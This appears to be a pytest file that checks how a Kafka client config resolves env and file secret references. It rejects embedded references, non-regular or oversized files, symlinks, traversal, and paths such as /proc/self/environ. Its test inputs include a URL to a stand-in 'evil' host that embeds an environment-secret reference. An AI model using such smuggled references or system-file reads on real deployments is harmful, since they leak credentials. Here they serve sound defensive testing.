"""References of clusters' properties: what is read where a client is made, and what never is."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from backend.domain.errors import ClusterUnreachable
from backend.kafka.client_config import client_config
from backend.kafka.references import MOST_BYTES, resolve
from backend.settings import settings


@pytest.fixture
def set_to(monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    def set_to(**values: object) -> None:
        changed = settings().model_copy(update=values)
        monkeypatch.setattr("backend.kafka.references.settings", lambda: changed)

    return set_to


def _password(reference: str) -> str:
    return str(client_config("127.0.0.1:9", {"sasl.password": reference})["sasl.password"])


@pytest.mark.parametrize("key", ["client.id", "sasl.username", "sasl.oauthbearer.token.endpoint.url"])
def test_a_reference_within_a_value_is_not_read_even_if_it_was_recorded(key: str, monkeypatch) -> None:
    monkeypatch.setenv("OF_ANOTHER", "the-secret")
    assert resolve("x${env:OF_ANOTHER}") == "x${env:OF_ANOTHER}"
    assert resolve("${env:OF_ANOTHER}") == "the-secret"
    with pytest.raises(ClusterUnreachable, match="whole value") as refused:
        client_config("127.0.0.1:9", {key: "https://evil/${env:OF_ANOTHER}"})
    assert "the-secret" not in refused.value.detail


def test_files_are_regular_and_small(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "large").write_text("x" * (MOST_BYTES + 1))
    (tmp_path / "binary").write_bytes(b"\xff\xfe")
    (tmp_path / "secret").write_text("s3\n")
    assert _password(f"${{file:{tmp_path}/secret}}") == "s3"
    for name, says in {"pipe": "regular", "large": "more than", "binary": "UTF-8", "": "regular"}.items():
        with pytest.raises(ClusterUnreachable, match=says):
            resolve(f"${{file:{tmp_path}/{name}}}")
    with pytest.raises(ClusterUnreachable, match="regular"):
        resolve("${file:/dev/zero}")


def test_treeline_s_home_and_the_system_s_files_are_no_cluster_s_secrets(
    tmp_path: Path, set_to: Callable[..., None]
) -> None:
    (tmp_path / "home" / "secrets").mkdir(parents=True)
    for name in ("admin-token", "kafka-password"):
        (tmp_path / "home" / "secrets" / name).write_text(name)
    (tmp_path / "link").symlink_to(tmp_path / "home" / "secrets" / "admin-token")
    set_to(home=tmp_path / "home")
    assert _password(f"${{file:{tmp_path}/home/secrets/kafka-password}}") == "kafka-password"
    for path in (f"{tmp_path}/home/secrets/admin-token", f"{tmp_path}/link", "/proc/self/environ", "/sys/x"):
        with pytest.raises(ClusterUnreachable, match="no cluster's secrets"):
            _password(f"${{file:{path}}}")


def test_folders_for_secrets_are_the_only_ones_where_they_are_named(
    tmp_path: Path, set_to: Callable[..., None]
) -> None:
    for name in ("in", "out"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "secret").write_text(name)
    set_to(secret_folders=[str(tmp_path / "in")])
    assert _password(f"${{file:{tmp_path}/in/secret}}") == "in"
    for path in (f"{tmp_path}/out/secret", f"{tmp_path}/in/../out/secret", f"{tmp_path}/inside"):
        with pytest.raises(ClusterUnreachable, match="TREELINE_SECRET_FOLDERS"):
            _password(f"${{file:{path}}}")
